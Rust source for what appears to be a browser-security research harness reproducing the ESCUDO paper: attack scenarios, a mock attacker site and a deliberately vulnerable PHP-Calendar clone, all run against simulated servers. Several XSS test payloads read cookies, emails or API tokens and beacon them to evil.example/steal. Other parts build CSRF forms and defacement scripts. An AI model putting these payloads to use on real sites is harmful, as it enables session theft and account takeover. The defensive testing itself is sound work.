    );
    let rogue = ScenarioCase::new(
        "blog-rogue-ad",
        "a rogue ad rewrites the publisher's post",
        CaseKind::Xss,
        Expectation::defended(),
        |mode| {
            let app = BlogApp::new().with_ad_script(
                "var post = document.getElementById('post-body');\
                 post.innerHTML = 'ad takeover';",
            );
            let mut browser = session_browser(mode);
            browser.network_mut().register("http://blog.example", app);
            let page = browser
                .navigate("http://blog.example/")
                .expect("reader opens the blog");
            let succeeded = browser
                .page(page)
                .text_of("post-body")
                .is_some_and(|text| text.contains("ad takeover"));
            cell_run(&browser, succeeded)
        },
    );
    let comment = ScenarioCase::new(
        "blog-comment-xss",
        "a script in a ring-3 comment rewrites the publisher's post",
        CaseKind::Xss,
        Expectation::defended(),
        |mode| {
            let app = BlogApp::new();
            let state = app.state();
            state
                .lock()
                .expect("app state lock")
                .comments
                .push(Comment {
                    id: 1,
                    author: "mallory".to_string(),
                    body: "<script>document.getElementById('post-body').innerHTML = \
                       'defaced by comment';</script>"
                        .to_string(),
                });
            let mut browser = session_browser(mode);
            browser.network_mut().register("http://blog.example", app);
            let page = browser
                .navigate("http://blog.example/")
                .expect("reader opens the blog");
            let succeeded = browser
                .page(page)
                .text_of("post-body")
                .is_some_and(|text| text.contains("defaced by comment"));
            cell_run(&browser, succeeded)
        },
    );
    Scenario {
        id: "blog",
        name: "blog with a leased ad slot (Figure 3)",
        tags: vec![WorkloadTag::Classic],
        cases: vec![benign, rogue, comment],
    }
}

fn spa_session(mode: PolicyMode, app: SpaApp) -> (Browser, PageId) {
    let mut browser = session_browser(mode);
    browser.network_mut().register("http://spa.example", app);
    browser
        .network_mut()
        .register("http://evil.example", AttackerSite::new());
    browser
        .navigate("http://spa.example/login?user=victim")
        .expect("victim login");
    let page = browser
        .navigate("http://spa.example/")
        .expect("victim opens the app");
    (browser, page)
}

fn spa_scenario() -> Scenario {
    let boot = ScenarioCase::new(
        "spa-boot",
        "the ring-1 bootstrap assembles the page at load time",
        CaseKind::Probe,
        Expectation::harmless(),
        |mode| {
            let (browser, page) = spa_session(mode, SpaApp::new());
            let page = browser.page(page);
            let succeeded = page
                .text_of("status")
                .is_some_and(|text| text.contains("ready"))
                && page
                    .text_of("note-1")
                    .is_some_and(|text| text.contains("first note"));
            cell_run(&browser, succeeded)
        },
    );
    let deface = ScenarioCase::new(
        "spa-widget-deface",
        "a ring-3 widget rewrites script-assembled ring-1 content",
        CaseKind::Xss,
        Expectation::defended(),
        |mode| {
            let app = SpaApp::new().with_widget(
                "var note = document.getElementById('note-1');\
                 note.innerHTML = 'defaced by widget';",
            );
            let (browser, page) = spa_session(mode, app);
            let succeeded = browser
                .page(page)
                .text_of("note-1")
                .is_some_and(|text| text.contains("defaced by widget"));
            cell_run(&browser, succeeded)
        },
    );
    let steal = ScenarioCase::new(
        "spa-widget-steal",
        "a ring-3 widget exfiltrates the session cookie",
        CaseKind::Leak,
        Expectation::defended(),
        |mode| {
            let app = SpaApp::new().with_widget(
                "var loot = document.cookie;\
                 var beacon = document.createElement('img');\
                 beacon.setAttribute('src', 'http://evil.example/steal?c=' + loot);\
                 document.body.appendChild(beacon);",
            );
            // Register a dedicated attacker so this cell reads its own log.
            let attacker = AttackerSite::new();
            let stolen = attacker.stolen();
            let mut browser = session_browser(mode);
            browser.network_mut().register("http://spa.example", app);
            browser
                .network_mut()
                .register("http://evil.example", attacker);
            browser
                .navigate("http://spa.example/login?user=victim")
                .expect("victim login");
            browser
                .navigate("http://spa.example/")
                .expect("victim opens the app");
            let succeeded = stolen
                .lock()
                .expect("app state lock")
                .iter()
                .any(|query| query.contains(SPA_COOKIE));
            cell_run(&browser, succeeded)
        },
    );
    let save = ScenarioCase::new(
        "spa-widget-save",
        "a ring-3 widget saves notes through the API on the victim's session",
        CaseKind::Xss,
        Expectation::defended(),
        |mode| {
            let app = SpaApp::new().with_widget(
                "var xhr = new XMLHttpRequest();\
                 xhr.open('POST', '/api/save');\
                 xhr.send('note=widget-spam');",
            );
            let state = app.state();
            let (browser, _) = spa_session(mode, app);
            let succeeded = state
                .lock()
                .expect("app state lock")
                .saved
                .iter()
                .any(|note| note.author == "victim" && note.note == "widget-spam");
            cell_run(&browser, succeeded)
        },
    );
    Scenario {
        id: "spa",
        name: "script-assembled single-page app",
        tags: vec![WorkloadTag::ScriptAssembled],
        cases: vec![boot, deface, steal, save],
    }
}

/// Number of third-party ad origins in the ad-network scenario.
pub const AD_SLOTS: usize = 4;
/// The slot the rogue network leases in the attack cases.
const ROGUE_SLOT: usize = 2;

fn adnet_session(mode: PolicyMode, site: NewsSite) -> (Browser, PageId, Vec<AdServerHandles>) {
    let mut browser = session_browser(mode);
    let mut handles = Vec::new();
    for i in 0..AD_SLOTS {
        let server = AdServer::new();
        handles.push(AdServerHandles {
            banners_served: server.banners_served(),
            stolen: server.stolen(),
        });
        browser
            .network_mut()
            .register(&NewsSite::ad_origin(i), server);
    }
    browser.network_mut().register("http://news.example", site);
    browser
        .navigate("http://news.example/login?user=victim")
        .expect("victim login");
    let page = browser
        .navigate("http://news.example/")
        .expect("victim opens the front page");
    (browser, page, handles)
}

struct AdServerHandles {
    banners_served: Arc<std::sync::Mutex<u64>>,
    stolen: Arc<std::sync::Mutex<Vec<String>>>,
}

fn adnet_scenario() -> Scenario {
    let banners = ScenarioCase::new(
        "adnet-banners",
        "all third-party banners load and benign ads restyle their slots",
        CaseKind::Probe,
        Expectation::harmless(),
        |mode| {
            let (browser, page, handles) = adnet_session(mode, NewsSite::new(AD_SLOTS));
            let page = browser.page(page);
            // The login redirect renders the front page once already, so each
            // banner has been fetched at least once, possibly twice.
            let all_fetched = handles
                .iter()
                .all(|h| *h.banners_served.lock().expect("app state lock") > 0)
                && page
                    .subresources
                    .iter()
                    .filter(|s| s.url.path() == "/banner.png")
                    .all(|s| s.succeeded());
            let all_restyled = (0..AD_SLOTS).all(|i| {
                page.text_of(&format!("ad-text-{i}"))
                    .is_some_and(|text| text.contains(&format!("buy things from ad{i}")))
            });
            cell_run(&browser, all_fetched && all_restyled)
        },
    );
    let deface = ScenarioCase::new(
        "adnet-rogue-deface",
        "a rogue ad network rewrites the publisher's headline",
        CaseKind::Xss,
        Expectation::defended(),
        |mode| {
            let site = NewsSite::new(AD_SLOTS).with_rogue_slot(
                ROGUE_SLOT,
                "var headline = document.getElementById('headline');\
                 headline.innerHTML = 'ads rule the news';",
            );
            let (browser, page, _) = adnet_session(mode, site);
            let succeeded = browser
                .page(page)
                .text_of("headline")
                .is_some_and(|text| text.contains("ads rule the news"));
            cell_run(&browser, succeeded)
        },
    );
    let steal = ScenarioCase::new(
        "adnet-rogue-steal",
        "a rogue ad network exfiltrates the session cookie to its own origin",
        CaseKind::Leak,
        Expectation::defended(),
        |mode| {
            let site = NewsSite::new(AD_SLOTS).with_rogue_slot(
                ROGUE_SLOT,
                "var loot = document.cookie;\
                 var beacon = document.createElement('img');\
                 beacon.setAttribute('src', 'http://ad2.example/steal?c=' + loot);\
                 document.body.appendChild(beacon);",
            );
            let (browser, _, handles) = adnet_session(mode, site);
            let succeeded = handles[ROGUE_SLOT]
                .stolen
                .lock()
                .expect("app state lock")
                .iter()
                .any(|query| query.contains(NEWS_COOKIE));
            cell_run(&browser, succeeded)
        },
    );
    Scenario {
        id: "adnet",
        name: "news publisher with N third-party ad origins",
        tags: vec![WorkloadTag::MultiOrigin],
        cases: vec![banners, deface, steal],
    }
}

fn vault_session(
    mode: PolicyMode,
    app: VaultApp,
) -> (Browser, PageId, Arc<std::sync::Mutex<Vec<String>>>) {
    let attacker = AttackerSite::new();
    let stolen = attacker.stolen();
    let mut browser = session_browser(mode);
    browser.network_mut().register("http://vault.example", app);
    browser
        .network_mut()
        .register("http://evil.example", attacker);
    browser
        .navigate("http://vault.example/login?user=pat")
        .expect("owner login");
    let page = browser
        .navigate("http://vault.example/profile")
        .expect("owner opens the profile");
    (browser, page, stolen)
}

fn vault_scenario() -> Scenario {
    let read_public = ScenarioCase::new(
        "vault-read-public",
        "the gadget reads the public display name (per-element ring 3)",
        CaseKind::Probe,
        Expectation::harmless(),
        |mode| {
            let app = VaultApp::new().with_gadget(
                "var name = document.getElementById('display-name').textContent;\
                 var out = document.getElementById('gadget-out');\
                 out.innerHTML = 'hello ' + name;",
            );
            let (browser, page, _) = vault_session(mode, app);
            let succeeded = browser
                .page(page)
                .text_of("gadget-out")
                .is_some_and(|text| text.contains(DISPLAY_NAME));
            cell_run(&browser, succeeded)
        },
    );
    let leak_email = ScenarioCase::new(
        "vault-leak-email",
        "the gadget leaks the confidential e-mail (per-element ring 2)",
        CaseKind::Leak,
        Expectation::defended(),
        |mode| {
            let app = VaultApp::new().with_gadget(
                "var loot = document.getElementById('email').textContent;\
                 var beacon = document.createElement('img');\
                 beacon.setAttribute('src', 'http://evil.example/steal?c=' + loot);\
                 document.body.appendChild(beacon);",
            );
            let (browser, _, stolen) = vault_session(mode, app);
            let succeeded = stolen
                .lock()
                .expect("app state lock")
                .iter()
                .any(|query| query.contains(EMAIL));
            cell_run(&browser, succeeded)
        },
    );
    let leak_token = ScenarioCase::new(
        "vault-leak-token",
        "the gadget leaks the secret API token (per-element ring 1)",
        CaseKind::Leak,
        Expectation::defended(),
        |mode| {
            let app = VaultApp::new().with_gadget(
                "var loot = document.getElementById('api-token').textContent;\
                 var beacon = document.createElement('img');\
                 beacon.setAttribute('src', 'http://evil.example/steal?c=' + loot);\
                 document.body.appendChild(beacon);",
            );
            let (browser, _, stolen) = vault_session(mode, app);
            let succeeded = stolen
                .lock()
                .expect("app state lock")
                .iter()
                .any(|query| query.contains(API_TOKEN));
            cell_run(&browser, succeeded)
        },
    );
    let overwrite = ScenarioCase::new(
        "vault-overwrite-token",
        "the gadget overwrites the secret API token in place",
        CaseKind::Xss,
        Expectation::defended(),
        |mode| {
            let app = VaultApp::new().with_gadget(
                "var token = document.getElementById('api-token');\
                 token.innerHTML = 'tok-hijacked';",
            );
            let (browser, page, _) = vault_session(mode, app);
            let succeeded = browser
                .page(page)
                .text_of("api-token")
                .is_some_and(|text| text.contains("tok-hijacked"));
            cell_run(&browser, succeeded)
        },
    );
    Scenario {
        id: "vault",
        name: "per-element policy vault (WebPol-style)",
        tags: vec![WorkloadTag::PerElement],
        cases: vec![read_public, leak_email, leak_token, overwrite],
    }
}

/// The built-in scenario registry, in presentation order.
#[must_use]
pub fn registry() -> Vec<Scenario> {
    vec![
        classic_scenario(TargetApp::Forum),
        classic_scenario(TargetApp::Calendar),
        blog_scenario(),
        spa_scenario(),
        adnet_scenario(),
        vault_scenario(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn registry_covers_the_six_scenarios_with_unique_case_ids() {
        let scenarios = registry();
        let ids: Vec<&str> = scenarios.iter().map(|s| s.id).collect();
        assert_eq!(ids, ["forum", "calendar", "blog", "spa", "adnet", "vault"]);
        let mut case_ids: Vec<String> = scenarios
            .iter()
            .flat_map(|s| s.cases.iter().map(|c| c.id.clone()))
            .collect();
        let count = case_ids.len();
        case_ids.sort_unstable();
        case_ids.dedup();
        assert_eq!(case_ids.len(), count, "case ids must be unique");
        assert!(scenarios.iter().all(|s| !s.cases.is_empty()));
    }

    #[test]
    fn the_classic_scenarios_carry_the_whole_attack_corpus() {
        let scenarios = registry();
        let forum = scenarios.iter().find(|s| s.id == "forum").unwrap();
        let calendar = scenarios.iter().find(|s| s.id == "calendar").unwrap();
        // 4 XSS + 5 CSRF per app, as in §6.4.
        assert_eq!(forum.cases.len(), 9);
        assert_eq!(calendar.cases.len(), 9);
    }

    #[test]
    fn spa_cells_match_their_expectations_under_both_modes() {
        let scenarios = registry();
        let spa = scenarios.iter().find(|s| s.id == "spa").unwrap();
        let report = MatrixReport::run(std::slice::from_ref(&Scenario {
            id: spa.id,
            name: spa.name,
            tags: spa.tags.clone(),
            cases: spa.cases.clone(),
        }));
        assert_eq!(report.cells(), 8);
        assert!(
            report.unexpected().is_empty(),
            "unexpected: {:?}",
            report.unexpected()
        );
    }

    #[test]
    fn vault_cells_match_their_expectations_leak_by_leak() {
        let scenarios = registry();
        let vault = scenarios.iter().find(|s| s.id == "vault").unwrap().clone();
        let report = MatrixReport::run(&[vault]);
        assert_eq!(report.cells(), 8);
        assert!(
            report.unexpected().is_empty(),
            "unexpected: {:?}",
            report.unexpected()
        );
        // The defended cells under ESCUDO actually recorded denials.
        for outcome in report.for_mode(PolicyMode::Escudo) {
            if outcome.expected == Verdict::Neutralized {
                assert!(outcome.denials > 0, "{} recorded no denial", outcome.case);
            }
        }
    }

    #[test]
    fn adnet_cells_match_their_expectations_under_both_modes() {
        let scenarios = registry();
        let adnet = scenarios.iter().find(|s| s.id == "adnet").unwrap().clone();
        let report = MatrixReport::run(&[adnet]);
        assert_eq!(report.cells(), 6);
        assert!(
            report.unexpected().is_empty(),
            "unexpected: {:?}",
            report.unexpected()
        );
    }

    #[test]
    fn outcome_display_flags_unexpected_cells() {
        let outcome = ScenarioOutcome {
            scenario: "spa",
            case: "spa-boot".to_string(),
            name: "boot".to_string(),
            kind: CaseKind::Probe,
            mode: PolicyMode::Escudo,
            expected: Verdict::Succeeds,
            observed: Verdict::Neutralized,
            checks: 10,
            denials: 1,
        };
        let line = outcome.to_string();
        assert!(line.contains("UNEXPECTED"));
        assert!(!outcome.as_expected());
    }
}
