//! The attacker-controlled web site.
//!
//! It serves two kinds of content: cross-site-request-forgery pages aimed at a victim
//! application (an auto-loading `img` or a form ready to be auto-submitted), and a
//! `/steal` endpoint that records data exfiltrated by XSS payloads (stolen cookies).

use std::fmt;
use std::sync::{Arc, Mutex};

use escudo_net::{Request, Response, Server, StatusCode};

/// How a CSRF page delivers its forged request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CsrfVector {
    /// An `<img src="…">` pointing at a state-changing URL of the victim (GET).
    ImageGet {
        /// Absolute URL of the forged request.
        target: String,
    },
    /// A form whose action is the victim URL; the harness auto-submits it
    /// (`form id="csrf-form"`), standing in for the usual auto-submit script.
    FormPost {
        /// Absolute URL of the forged request.
        target: String,
        /// Form fields.
        fields: Vec<(String, String)>,
    },
}

/// The attacker site.
pub struct AttackerSite {
    /// The CSRF page body served at `/csrf`.
    vector: Option<CsrfVector>,
    stolen: Arc<Mutex<Vec<String>>>,
}

impl fmt::Debug for AttackerSite {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("AttackerSite")
            .field("vector", &self.vector)
            .field("stolen", &self.stolen.lock().expect("app state lock").len())
            .finish()
    }
}

impl AttackerSite {
    /// Creates an attacker site with no CSRF page (exfiltration endpoint only).
    #[must_use]
    pub fn new() -> Self {
        AttackerSite {
            vector: None,
            stolen: Arc::new(Mutex::new(Vec::new())),
        }
    }

    /// Creates an attacker site whose `/csrf` page mounts the given vector.
    #[must_use]
    pub fn with_csrf(vector: CsrfVector) -> Self {
        AttackerSite {
            vector: Some(vector),
            stolen: Arc::new(Mutex::new(Vec::new())),
        }
    }

    /// A handle to the exfiltration log (query strings received at `/steal`).
    #[must_use]
    pub fn stolen(&self) -> Arc<Mutex<Vec<String>>> {
        Arc::clone(&self.stolen)
    }

    fn csrf_page(&self) -> String {
        let payload = match &self.vector {
            None => String::new(),
            Some(CsrfVector::ImageGet { target }) => {
                format!("<img id=\"csrf-img\" src=\"{target}\">")
            }
            Some(CsrfVector::FormPost { target, fields }) => {
                let inputs: String = fields
                    .iter()
                    .map(|(name, value)| {
                        format!("<input type=\"hidden\" name=\"{name}\" value=\"{value}\">")
                    })
                    .collect();
                format!(
                    "<form id=\"csrf-form\" method=\"post\" action=\"{target}\">{inputs}\
                     <input type=\"submit\" value=\"win a prize\"></form>"
                )
            }
        };
        format!(
            "<!DOCTYPE html><html><head><title>Totally harmless page</title></head>\
             <body><h1>Free screensavers</h1>{payload}</body></html>"
        )
    }
}

impl Default for AttackerSite {
    fn default() -> Self {
        AttackerSite::new()
    }
}

impl Server for AttackerSite {
    fn handle(&mut self, request: &Request) -> Response {
        match request.url.path() {
            "/" | "/csrf" => Response::ok_html(self.csrf_page()),
            "/steal" => {
                self.stolen
                    .lock()
                    .expect("app state lock")
                    .push(request.url.query().to_string());
                Response::ok_text("thanks")
            }
            _ => Response::error(StatusCode::NOT_FOUND, "not found"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csrf_pages_embed_the_requested_vector() {
        let mut img_site = AttackerSite::with_csrf(CsrfVector::ImageGet {
            target: "http://forum.example/posting.php?mode=post&subject=spam".to_string(),
        });
        let page = img_site.handle(&Request::get("http://evil.example/csrf").unwrap());
        assert!(page.body.contains("csrf-img"));
        assert!(page.body.contains("posting.php"));

        let mut form_site = AttackerSite::with_csrf(CsrfVector::FormPost {
            target: "http://forum.example/posting.php".to_string(),
            fields: vec![
                ("mode".into(), "post".into()),
                ("subject".into(), "spam".into()),
            ],
        });
        let page = form_site.handle(&Request::get("http://evil.example/csrf").unwrap());
        assert!(page.body.contains("id=\"csrf-form\""));
        assert!(page.body.contains("name=\"subject\""));
    }

    #[test]
    fn the_steal_endpoint_records_exfiltrated_data() {
        let mut site = AttackerSite::new();
        let stolen = site.stolen();
        site.handle(&Request::get("http://evil.example/steal?c=phpbb2mysql_sid%3Dabc").unwrap());
        site.handle(&Request::get("http://evil.example/steal?c=second").unwrap());
        assert_eq!(stolen.lock().expect("app state lock").len(), 2);
        assert!(stolen.lock().expect("app state lock")[0].contains("phpbb2mysql_sid"));
        assert_eq!(
            site.handle(&Request::get("http://evil.example/other").unwrap())
                .status,
            StatusCode::NOT_FOUND
        );
    }
}
