//! A group calendar modelled on **PHP-Calendar** (the paper's second case study).
//!
//! Users create events (a text description, a date); the key security concern is
//! "appropriately limiting the capabilities of events inside the web application"
//! (Table 4). Application content may modify the page, use the session cookie and call
//! `XMLHttpRequest`; events may not. The ESCUDO configuration implementing this is
//! Table 5 and is reproduced by [`CalendarApp::escudo_config`].

use std::fmt;
use std::sync::{Arc, Mutex};

use escudo_core::config::{ApiPolicy, CookiePolicy, NativeApi};
use escudo_core::{Acl, Ring};
use escudo_net::{Request, Response, Server, SetCookie, StatusCode};

use crate::forum::{EscudoConfigRow, RequirementRow};
use crate::markup::AcMarkup;
use crate::session::SessionStore;
use crate::template::html_escape;

/// The session cookie name.
pub const SESSION_COOKIE: &str = "phpc_session";

/// Configuration of the calendar application (same switches as the forum).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CalendarConfig {
    /// Emit the ESCUDO configuration.
    pub escudo: bool,
    /// Server-side input validation of event text.
    pub input_validation: bool,
    /// Whether state-changing requests require a secret token. PHP-Calendar, per the
    /// paper, "had no protection mechanisms for CSRF attacks", so this defaults off.
    pub csrf_tokens: bool,
    /// Seed for nonces and session identifiers.
    pub seed: u64,
}

impl Default for CalendarConfig {
    fn default() -> Self {
        CalendarConfig {
            escudo: true,
            input_validation: true,
            csrf_tokens: false,
            seed: 0xCA1E,
        }
    }
}

impl CalendarConfig {
    /// The §6.4 attack configuration: conventional defenses off.
    #[must_use]
    pub fn vulnerable() -> Self {
        CalendarConfig {
            escudo: true,
            input_validation: false,
            csrf_tokens: false,
            seed: 0xCA1E,
        }
    }

    /// A legacy application without ESCUDO configuration.
    #[must_use]
    pub fn legacy() -> Self {
        CalendarConfig {
            escudo: false,
            input_validation: true,
            csrf_tokens: false,
            seed: 0xCA1E,
        }
    }
}

/// A calendar event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Event {
    /// Event id.
    pub id: usize,
    /// Day the event is scheduled on (1–31; the experiments only need a label).
    pub day: u8,
    /// Event title.
    pub title: String,
    /// Event description (raw, as submitted).
    pub description: String,
    /// The user who created the event.
    pub author: String,
}

/// The calendar's server-side state.
#[derive(Debug)]
pub struct CalendarState {
    /// Events, oldest first.
    pub events: Vec<Event>,
    /// Live sessions.
    pub sessions: SessionStore,
}

impl CalendarState {
    fn new(seed: u64) -> Self {
        CalendarState {
            events: Vec::new(),
            sessions: SessionStore::new(seed),
        }
    }

    /// Events created by `user`.
    #[must_use]
    pub fn events_by(&self, user: &str) -> Vec<&Event> {
        self.events.iter().filter(|e| e.author == user).collect()
    }
}

/// The PHP-Calendar-like application.
pub struct CalendarApp {
    config: CalendarConfig,
    state: Arc<Mutex<CalendarState>>,
}

impl fmt::Debug for CalendarApp {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("CalendarApp")
            .field("config", &self.config)
            .finish()
    }
}

impl CalendarApp {
    /// Creates a calendar with the given configuration.
    #[must_use]
    pub fn new(config: CalendarConfig) -> Self {
        CalendarApp {
            config,
            state: Arc::new(Mutex::new(CalendarState::new(config.seed))),
        }
    }

    /// A handle to the server-side state.
    #[must_use]
    pub fn state(&self) -> Arc<Mutex<CalendarState>> {
        Arc::clone(&self.state)
    }

    /// The Table 4 security requirements.
    #[must_use]
    pub fn security_requirements() -> Vec<RequirementRow> {
        vec![
            RequirementRow {
                principal: "Application content",
                modify_dom: true,
                access_cookies: true,
                access_xhr: true,
            },
            RequirementRow {
                principal: "Calendar events",
                modify_dom: false,
                access_cookies: false,
                access_xhr: false,
            },
        ]
    }

    /// The Table 5 ESCUDO configuration.
    #[must_use]
    pub fn escudo_config() -> Vec<EscudoConfigRow> {
        vec![
            EscudoConfigRow {
                resource: "Cookies",
                ring: 1,
                read: 1,
                write: 1,
            },
            EscudoConfigRow {
                resource: "XMLHttpRequest",
                ring: 1,
                read: 1,
                write: 1,
            },
            EscudoConfigRow {
                resource: "Application content",
                ring: 1,
                read: 1,
                write: 1,
            },
            EscudoConfigRow {
                resource: "Calendar events",
                ring: 3,
                read: 2,
                write: 2,
            },
        ]
    }

    fn sanitize(&self, input: &str) -> String {
        if self.config.input_validation {
            html_escape(input)
        } else {
            input.to_string()
        }
    }

    fn session_user(&self, request: &Request) -> Option<String> {
        let sid = request.cookie(SESSION_COOKIE)?;
        self.state
            .lock()
            .expect("app state lock")
            .sessions
            .get(&sid)
            .map(|s| s.user.clone())
    }

    fn with_policies(&self, response: Response) -> Response {
        if !self.config.escudo {
            return response;
        }
        response
            .with_cookie_policy(
                &CookiePolicy::new(SESSION_COOKIE, Ring::new(1))
                    .with_acl(Acl::uniform(Ring::new(1))),
            )
            .with_api_policy(&ApiPolicy::new(NativeApi::XmlHttpRequest, Ring::new(1)))
            .with_api_policy(&ApiPolicy::new(NativeApi::CookieApi, Ring::new(1)))
    }

    fn page(&self, title: &str, inner: String) -> Response {
        let mut markup = AcMarkup::new(self.config.seed, self.config.escudo);
        let app_region = markup.region(
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "id=\"app\"",
            &format!(
                "<h1>{title}</h1>\
                 <div id=\"app-status\">loading</div>\
                 <script>\
                   var el = document.getElementById('app-status');\
                   if (el != null) {{ el.innerHTML = 'calendar ready'; }}\
                 </script>\
                 <form id=\"add-event\" method=\"post\" action=\"/index.php?action=add\">\
                   <input type=\"hidden\" name=\"action\" value=\"add\">\
                   <input type=\"text\" name=\"title\" value=\"\">\
                   <input type=\"text\" name=\"day\" value=\"1\">\
                   <textarea name=\"description\"></textarea>\
                   <input type=\"submit\" value=\"Add event\">\
                 </form>\
                 <div id=\"month-view\">{inner}</div>"
            ),
        );
        let body = markup.region_with_tag(
            "body",
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "",
            &app_region,
        );
        let html = format!("<!DOCTYPE html><html><head><title>{title}</title></head>{body}</html>");
        self.with_policies(Response::ok_html(html))
    }

    fn event_region(&self, markup: &mut AcMarkup, event: &Event) -> String {
        markup.region(
            Ring::new(3),
            Acl::new(Ring::new(2), Ring::new(2), Ring::new(2)),
            &format!("id=\"event-{}\" class=\"event\"", event.id),
            &format!(
                "<span class=\"day\">day {}</span> <span class=\"title\">{}</span>\
                 <div class=\"description\">{}</div><span class=\"author\">{}</span>",
                event.day,
                self.sanitize(&event.title),
                self.sanitize(&event.description),
                html_escape(&event.author)
            ),
        )
    }

    fn handle_login(&mut self, request: &Request) -> Response {
        let user = request.param("user").unwrap_or_else(|| "guest".to_string());
        let sid = self
            .state
            .lock()
            .expect("app state lock")
            .sessions
            .create(&user);
        self.with_policies(
            Response::redirect("/index.php").with_cookie(SetCookie::new(SESSION_COOKIE, sid)),
        )
    }

    fn handle_index(&mut self, request: &Request) -> Response {
        match request.param("action").as_deref() {
            Some("add") => self.handle_add(request),
            Some("edit") => self.handle_edit(request),
            _ => {
                let mut markup = AcMarkup::new(self.config.seed, self.config.escudo);
                let state = self.state.lock().expect("app state lock");
                let mut inner = String::new();
                for event in &state.events {
                    inner.push_str(&self.event_region(&mut markup, event));
                }
                drop(state);
                self.page("PHP-Calendar", inner)
            }
        }
    }

    fn handle_add(&mut self, request: &Request) -> Response {
        let Some(user) = self.session_user(request) else {
            return Response::error(StatusCode::FORBIDDEN, "not logged in");
        };
        let title = request
            .param("title")
            .unwrap_or_else(|| "untitled".to_string());
        let description = request.param("description").unwrap_or_default();
        let day = request
            .param("day")
            .and_then(|d| d.parse::<u8>().ok())
            .unwrap_or(1)
            .clamp(1, 31);
        let mut state = self.state.lock().expect("app state lock");
        let id = state.events.len() + 1;
        state.events.push(Event {
            id,
            day,
            title,
            description,
            author: user,
        });
        drop(state);
        self.with_policies(Response::redirect("/index.php"))
    }

    fn handle_edit(&mut self, request: &Request) -> Response {
        let Some(user) = self.session_user(request) else {
            return Response::error(StatusCode::FORBIDDEN, "not logged in");
        };
        let Some(id) = request.param("id").and_then(|i| i.parse::<usize>().ok()) else {
            return Response::error(StatusCode::BAD_REQUEST, "missing event id");
        };
        let description = request.param("description").unwrap_or_default();
        let mut state = self.state.lock().expect("app state lock");
        let Some(event) = state.events.iter_mut().find(|e| e.id == id) else {
            return Response::error(StatusCode::NOT_FOUND, "no such event");
        };
        event.description = description;
        event.author = user;
        drop(state);
        self.with_policies(Response::redirect("/index.php"))
    }
}

impl Server for CalendarApp {
    fn handle(&mut self, request: &Request) -> Response {
        match request.url.path() {
            "/login.php" | "/login" => self.handle_login(request),
            "/" | "/index.php" => self.handle_index(request),
            _ => Response::error(StatusCode::NOT_FOUND, "not found"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn login(app: &mut CalendarApp, user: &str) -> String {
        let response = app.handle(
            &Request::get(&format!("http://calendar.example/login.php?user={user}")).unwrap(),
        );
        response
            .set_cookies()
            .iter()
            .find(|c| c.name == SESSION_COOKIE)
            .map(|c| c.value.clone())
            .expect("login sets a session cookie")
    }

    fn with_session(mut request: Request, sid: &str) -> Request {
        request
            .headers
            .set("Cookie", format!("{SESSION_COOKIE}={sid}"));
        request
    }

    #[test]
    fn add_and_edit_events_with_a_session() {
        let mut app = CalendarApp::new(CalendarConfig::vulnerable());
        assert_eq!(
            app.handle(
                &Request::post_form(
                    "http://calendar.example/index.php",
                    &[("action", "add"), ("title", "x")]
                )
                .unwrap()
            )
            .status,
            StatusCode::FORBIDDEN
        );

        let sid = login(&mut app, "alice");
        app.handle(&with_session(
            Request::post_form(
                "http://calendar.example/index.php",
                &[
                    ("action", "add"),
                    ("title", "Standup"),
                    ("day", "5"),
                    ("description", "daily sync"),
                ],
            )
            .unwrap(),
            &sid,
        ));
        assert_eq!(app.state().lock().expect("app state lock").events.len(), 1);
        assert_eq!(app.state().lock().expect("app state lock").events[0].day, 5);

        app.handle(&with_session(
            Request::post_form(
                "http://calendar.example/index.php",
                &[
                    ("action", "edit"),
                    ("id", "1"),
                    ("description", "moved to 10am"),
                ],
            )
            .unwrap(),
            &sid,
        ));
        assert_eq!(
            app.state().lock().expect("app state lock").events[0].description,
            "moved to 10am"
        );
    }

    #[test]
    fn month_view_wraps_events_in_ring_3_regions() {
        let mut app = CalendarApp::new(CalendarConfig::vulnerable());
        let sid = login(&mut app, "alice");
        app.handle(&with_session(
            Request::post_form(
                "http://calendar.example/index.php",
                &[
                    ("action", "add"),
                    ("title", "T"),
                    ("description", "<i>markup</i>"),
                ],
            )
            .unwrap(),
            &sid,
        ));
        let page = app.handle(&with_session(
            Request::get("http://calendar.example/index.php").unwrap(),
            &sid,
        ));
        assert!(page.body.contains("id=\"event-1\""));
        assert!(page.body.contains("ring=\"3\""));
        assert!(page.body.contains("<i>markup</i>"));
        assert_eq!(page.cookie_policies().len(), 1);
        assert_eq!(page.api_policies().len(), 2);
    }

    #[test]
    fn input_validation_escapes_event_markup_when_enabled() {
        let mut app = CalendarApp::new(CalendarConfig::default());
        let sid = login(&mut app, "alice");
        app.handle(&with_session(
            Request::post_form(
                "http://calendar.example/index.php",
                &[
                    ("action", "add"),
                    ("title", "T"),
                    ("description", "<script>x()</script>"),
                ],
            )
            .unwrap(),
            &sid,
        ));
        let page = app.handle(&with_session(
            Request::get("http://calendar.example/index.php").unwrap(),
            &sid,
        ));
        assert!(page.body.contains("&lt;script&gt;"));
        assert!(!page.body.contains("<script>x()"));
    }

    #[test]
    fn legacy_configuration_has_no_escudo_markers() {
        let mut app = CalendarApp::new(CalendarConfig::legacy());
        let sid = login(&mut app, "alice");
        let page = app.handle(&with_session(
            Request::get("http://calendar.example/index.php").unwrap(),
            &sid,
        ));
        assert!(page.cookie_policies().is_empty());
        assert!(!page.body.contains("ring="));
    }

    #[test]
    fn tables_4_and_5_match_the_paper() {
        let requirements = CalendarApp::security_requirements();
        assert_eq!(requirements.len(), 2);
        assert!(requirements[0].access_xhr);
        assert!(!requirements[1].access_xhr);
        let config = CalendarApp::escudo_config();
        let events = config
            .iter()
            .find(|r| r.resource == "Calendar events")
            .unwrap();
        assert_eq!((events.ring, events.read, events.write), (3, 2, 2));
    }

    #[test]
    fn unknown_routes_and_missing_events() {
        let mut app = CalendarApp::new(CalendarConfig::default());
        assert_eq!(
